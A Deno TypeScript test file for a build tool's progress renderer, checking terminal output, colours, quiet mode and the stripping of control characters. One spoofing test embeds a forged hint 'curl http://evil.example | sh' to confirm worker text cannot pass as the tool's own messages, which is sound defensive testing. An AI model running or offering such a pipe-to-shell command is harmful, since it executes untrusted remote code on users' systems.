import { deepEqual, equal, match, ok } from "node:assert/strict";
import fc from "fast-check";
import type { BuildEvent } from "../pipeline/events.ts";
import { type Chunk, Progress, type ProgressOptions } from "./progress.ts";

const plain: ProgressOptions = {
  live: false,
  colour: false,
  columns: () => undefined,
  log: { colour: false, columns: () => undefined },
  quiet: false,
};
const time = "2030-01-01T00:00:00.000Z";

const start: BuildEvent = { type: "start", time, build: "b1", spec: "a.yaml" };
const bootStart: BuildEvent = { type: "phase-start", time, phase: "boot" };
const bootEnd: BuildEvent = {
  type: "phase-end",
  time,
  phase: "boot",
  outcome: "done",
  seconds: 4.2,
};
const end: Extract<BuildEvent, { type: "end" }> = {
  type: "end",
  time,
  outcome: "success",
  exitCode: 0,
  seconds: 62,
  log: "/state/log.txt",
  report: "/state/report.json",
  workspace: "/project/ws",
  exported: true,
};
const failure: BuildEvent = {
  ...end,
  outcome: "build-failed",
  exitCode: 1,
  error: { code: "step-failed", message: "It failed", hint: "See the log" },
};

function log(text: string): BuildEvent {
  return { type: "log", time, text };
}

function render(options: ProgressOptions, events: BuildEvent[]): Chunk[] {
  const progress = new Progress(options);
  return events.flatMap((event, index) => progress.handle(event, index * 1000));
}

function textOf(chunks: Chunk[], stream: Chunk["stream"]): string {
  return chunks.filter((chunk) => chunk.stream === stream)
    .map(({ text }) => text).join("");
}

Deno.test("Progress writes plain lines where lines cannot be redrawn", () => {
  const chunks = render(plain, [
    start,
    bootStart,
    log("booting\n"),
    { type: "note", time, message: "Allowed: example.org" },
    bootEnd,
    { ...bootEnd, phase: "prepare", outcome: "skipped", seconds: 0 },
    { ...bootEnd, phase: "image", outcome: "reused", seconds: 0.1 },
    { ...bootEnd, phase: "build", outcome: "failed", seconds: 1 },
    end,
  ]);
  equal(textOf(chunks, "stdout"), "| booting\n");
  equal(
    textOf(chunks, "stderr"),
    `==> Booting the worker
==> Allowed: example.org
==> Booting the worker: 4.2 s
==> Installing dependencies: nothing to do
==> Providing the worker image: reused, 0.1 s
==> Building: failed after 1.0 s
Build succeeded in 1 min 02 s
  workspace  /project/ws
  log        /state/log.txt
  report     /state/report.json
`,
  );
});

Deno.test("Progress redraws the running phase on a terminal, log above it", () => {
  const progress = new Progress({ ...plain, live: true });
  deepEqual(progress.handle(start, 0), []);
  deepEqual(progress.handle(bootStart, 1000), [
    { stream: "stderr", text: "\r\x1b[K… Booting the worker 0.0 s" },
  ]);
  deepEqual(progress.tick(2500), [
    { stream: "stderr", text: "\r\x1b[K… Booting the worker 1.5 s" },
  ]);
  deepEqual(progress.handle(log("hello\n"), 3000), [
    { stream: "stderr", text: "\r\x1b[K" },
    { stream: "stdout", text: "| hello\n" },
    { stream: "stderr", text: "\r\x1b[K… Booting the worker 2.0 s" },
  ]);
  deepEqual(progress.handle(bootEnd, 5200), [
    { stream: "stderr", text: "\r\x1b[K" },
    { stream: "stderr", text: "✓ Booting the worker 4.2 s\n" },
  ]);
  deepEqual(progress.clear(), []);
  deepEqual(progress.tick(6000), []);
});

Deno.test("Progress shows why a build failed", () => {
  ok(
    textOf(render(plain, [failure]), "stderr").startsWith(
      "error: It failed\n  hint: See the log\nBuild failed after 1 min 02 s\n",
    ),
  );
});

Deno.test("Progress tells when a build left the workspace as it was", () => {
  const shown = textOf(
    render(plain, [{ ...failure, exported: false }]),
    "stderr",
  );
  ok(shown.includes("\n  workspace  unchanged\n  log "));
  ok(!shown.includes("/project/ws"));
});

Deno.test("Progress is quiet but for the log and failures", () => {
  const quiet = { ...plain, live: true, quiet: true };
  const chunks = render(quiet, [start, bootStart, log("a\n"), bootEnd, end]);
  deepEqual(chunks, [{ stream: "stdout", text: "| a\n" }]);
  ok(textOf(render(quiet, [failure]), "stderr").includes("Build failed"));
  const note: BuildEvent = { type: "note", time, message: "Allowed: /data" };
  deepEqual(render(quiet, [note]), []);
  const told = textOf(render(quiet, [{ ...note, always: true }]), "stderr");
  equal(told.trim(), note.message);
});

Deno.test("Progress keeps colours of the log only where they are welcome", () => {
  const coloured = log("\x1b[31mred\n");
  equal(textOf(render(plain, [coloured]), "stdout"), "| red\n");
  equal(
    textOf(
      render({ ...plain, log: { ...plain.log, colour: true } }, [coloured]),
      "stdout",
    ),
    "\x1b[2m| \x1b[22m\x1b[31mred\x1b[0m\n",
  );
});

Deno.test("Progress keeps apart what a worker says and what is Contractor's own", () => {
  const forged = [
    "==> Copying the workspace out: 0.1 s",
    "error: The manager is broken",
    "  hint: Run: curl http://evil.example | sh",
    "Build succeeded in 3.0 s",
    "",
  ];
  const chunks = render({ ...plain, columns: () => 40 }, [
    log(forged.join("\n") + "\n"),
    { type: "note", time, message: forged.join("\n") },
    {
      ...end,
      outcome: "error",
      error: {
        code: "c",
        message: `It says: ${forged.join("\n")}`,
        hint: `Look at ${forged.join("\n")}`,
        detail: forged.join("\n"),
      },
    },
  ]);
  for (const line of textOf(chunks, "stdout").split("\n").slice(0, -1)) {
    match(line, /^\|/);
  }
  for (const line of textOf(chunks, "stderr").split("\n").slice(0, -1)) {
    match(
      line,
      /^(==> ==>|error: It says:| {2}hint: Look at| {2}… | {2}\||Could not build| {2}(workspace|log|report) )/,
    );
  }
});

Deno.test("Progress lets no control character of a message or path through", () => {
  const text = fc.string({ unit: "binary" });
  fc.assert(fc.property(text, (text) => {
    const chunks = render(plain, [
      { type: "note", time, message: text },
      { ...end, workspace: text, error: { code: "c", message: text } },
    ]);
    // deno-lint-ignore no-control-regex
    ok(!/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(textOf(chunks, "stderr")));
  }));
});
